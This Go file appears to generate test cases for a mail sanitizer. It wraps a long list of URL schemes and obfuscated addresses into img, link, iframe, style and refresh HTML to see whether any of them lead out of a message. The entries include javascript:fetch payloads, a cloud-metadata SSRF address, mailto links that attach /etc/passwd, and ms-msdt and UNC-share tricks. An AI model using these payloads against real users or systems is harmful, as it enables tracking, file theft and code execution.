package quiet

import "strings"

// schemes are addresses that a picture, a link, a frame or a style may have, and
// that lead out of the mail in another way than by the web. § is the host.
var schemes = []string{
	"ftp://§/p.png", "ftps://§/p", "sftp://§/p", "gopher://§/", "ws://§/", "wss://§/", "telnet://§/", "ldap://§/", "ldaps://§/", "rtsp://§/v", "mms://§/v", "dict://§:1/",
	"nntp://§/g", "news://§/g", "imap://§/INBOX", "pop://§/", "jdbc:mysql://§/", "git://§/x", "ssh://§/", "irc://§/x", "rdp://§", "vnc://§/", "dav://§/x", "webdav://§/x",
	"smb://§/share/p.png", "cifs://§/share", "afp://§/v", "nfs://§/v", "file://§/share/p.png", "file:////§/share/p.png", "file:///\\\\§\\share", `\\§\share\p.png`, `\\\\§\\share`,
	`//§/p.png`, `/\§/p.png`, `\/§/p.png`, `https:\\§\p.png`, `https:/§/p.png`, `https:§/p.png`, `http:////§/p.png`, "https://a.invalid@§/p.png", "https://§:25/p.png", "https://§./p.png",
	"https://§%2f@a.invalid/", "HtTpS://§/p.png", " https://§/p.png", "\x01https://§/p.png", "ht\x00tps://§/p.png", "https://§/p.png\x00", "https://\u200b§/p.png", "https\uff1a//§/p.png",
	"http://[::ffff:127.0.0.1]/§", "http://127.0.0.1/§", "http://localhost:631/§", "http://169.254.169.254/latest/§", "http://0x7f000001/§", "http://2130706433/§", "http://0/§", "http://[fe80::1%25lo]/§",
	"javascript:fetch('https://§')", "JaVaScRiPt:fetch('//§')", "java\tscript:fetch('//§')", "java&#10;script:fetch('//§')", "jav&#x09;ascript&colon;fetch('//§')", "\x01javascript:location='//§'",
	"vbscript:CreateObject(\"//§\")", "livescript:[//§]", "mocha:[//§]", "feed:https://§/", "feed:javascript:fetch('//§')", "view-source:https://§/", "jar:https://§/a.jar!/x", "wyciwyg://§/",
	"data:text/html,<script src=https://§></script>", "data:text/html;base64,PHNjcmlwdCBzcmM9aHR0cHM6Ly94PjwvL3NjcmlwdD4=#§", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://§/p'/></svg>",
	"data:image/svg+xml;utf8,<svg onload=fetch('https://§')>", "data:text/css,@import 'https://§'", "data:application/xhtml+xml,<img src='https://§'/>", "data:,https://§", "data:image/png,https://§",
	"mhtml:https://§/!x", "mhtml:cid:x!https://§/", "ms-its:\\\\§\\x.chm::/x", "ms-word:ofe|u|https://§/x.docx", "ms-excel:ofv|u|https://§/", "ms-msdt:/id PCWDiagnostic /§", "search-ms:query=x&crumb=location:\\\\§\\x",
	"ms-officecmd:{\"id\":\"§\"}", "ms-cxh-full://§", "ms-settings:§", "ms-appinstaller:?source=https://§/a", "ms-search:§", "steam://run/§", "skype:§?call", "callto:§", "tel:§", "sms:§", "facetime://§", "maps://§", "geo:§",
	"mailto:a@§?attach=/etc/passwd", "mailto:a@§?body=x&attachment=/etc/hosts", "intent://§/#Intent;scheme=https;end", "market://§", "itms://§/", "chrome://§/", "about:§", "blob:https://§/1", "filesystem:https://§/t/1",
	"moz-extension://§/", "resource://§/", "res://§/1", "shell:§", "hcp://§", "help:§", "man:§", "info:§", "ipp://§/printers/x", "magnet:?xt=urn:btih:0&tr=https://§", "ed2k://|server|§|1|/", "bitcoin:§", "xmpp:a@§", "sip:a@§", "matrix:r/x:§",
	"cid:x@§", "CID:%00@§", "mid:a@§/b@c", "urn:uuid:§", "tag:§,2026:x", "ni://§/sha-256;x", "did:web:§", "x-apple.systempreferences:§", "com.apple.x://§", "web+x://§", "webcal://§/c.ics", "caldav://§/", "tftp://§/x", "svn://§/", "svn+ssh://§/",
}

// places are where an address stands.
var places = []struct{ name, html string }{
	{"picture", `<img src="§">`},
	{"link", `<a href="§">x</a>`},
	{"frame", `<iframe src="§"></iframe><object data="§"></object><embed src="§">`},
	{"style", `<p style="background:url('§')">x</p>`},
	{"refresh", `<meta http-equiv="refresh" content="0;url=§">`},
}

func (v *vectors) schemes() {
	for i, s := range schemes {
		for j, p := range places {
			if j > 1 && (i+j)%3 > 0 { // pictures and links of all, a third of the rest
				continue
			}
			host := v.host()
			address := strings.ReplaceAll(strings.ReplaceAll(s, "§", host), `"`, "&quot;")
			if p.name == "style" {
				address = strings.NewReplacer("'", "%27", `\`, `\\`).Replace(address)
			}
			v.html("address: "+s+" of a "+p.name, host, strings.ReplaceAll(p.html, "§", address), false)
		}
	}
}
